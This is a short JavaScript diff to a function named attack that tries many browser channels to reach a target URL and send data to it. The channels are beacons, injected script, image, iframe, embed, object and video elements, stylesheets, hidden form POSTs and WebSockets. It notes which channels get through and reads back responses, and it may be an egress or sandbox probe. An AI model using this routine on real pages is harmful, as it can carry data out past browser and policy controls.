@@ -51,21 +51,19 @@ async function attack(target, body) {
     }
   }
   try { navigator.sendBeacon(target, body); } catch (error) { }
-  // Side by side: some of these say nothing when they fail, and each would be waited for.
-  const things = [['script', 'src'], ['img', 'src'], ['iframe', 'src'], ['embed', 'src'], ['object', 'data'],
-                  ['video', 'src']].map(async ([tag, name]) => {
+  for (const [tag, name] of [['script', 'src'], ['img', 'src'], ['iframe', 'src'], ['embed', 'src'], ['object', 'data'],
+                             ['video', 'src']]) {
     const thing = document.createElement(tag);
     thing[name] = target;
     const how = await wait(thing, () => document.body.append(thing));
     if (tag === 'img' && how === 'load') read.push('an image');
     if (tag === 'script' && how === 'load') read.push('a script');
     try { if (thing.contentDocument) read.push(thing.contentDocument.body.innerText); } catch (error) { }
-  });
+  }
   const link = document.createElement('link');
   link.rel = 'stylesheet'; link.href = target;
   if (await wait(link, () => document.head.append(link)) === 'load') read.push('a stylesheet');
-  await Promise.all(things);
-  await Promise.all(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'].map(async kind => {
+  for (const kind of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
     const form = document.createElement('form'), frame = document.createElement('iframe');
     frame.name = 'f' + Math.random();
     form.action = target; form.method = 'POST'; form.enctype = kind; form.target = frame.name;
@@ -74,7 +72,7 @@ async function attack(target, body) {
     document.body.append(frame, form);
     await wait(frame, () => form.submit());
     try { read.push(frame.contentDocument.body.innerText); } catch (error) { }
-  }));
+  }
   try {
     const socket = new WebSocket(target.replace('http', 'ws'));
     if (['open', 'message'].includes(await wait(socket, () => {}))) read.push('a socket');
